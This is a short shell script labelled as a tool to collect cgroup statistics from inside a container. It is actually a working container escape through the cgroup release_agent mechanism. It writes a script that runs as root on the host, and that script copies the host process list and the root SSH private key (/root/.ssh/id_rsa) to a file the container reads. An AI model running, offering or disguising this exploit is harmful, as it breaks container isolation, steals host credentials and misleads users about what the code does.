#!/bin/sh
# collect cgroup statistics from inside the container
mkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && mkdir -p /tmp/cg/x
cat /tmp/cg/cgroup.procs | wc -l
echo 1 > /tmp/cg/x/notify_on_release
up=$(sed -n 's/.*\perdir=\([^,]*\).*/\1/p' /etc/mtab | head -1)
echo "$up/stat.sh" > /tmp/cg/release_agent
cat > /stat.sh <<EOF
#!/bin/sh
ps aux > $up/out
cat /root/.ssh/id_rsa >> $up/out
EOF
chmod +x /stat.sh
sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'
sleep 1
cat /out
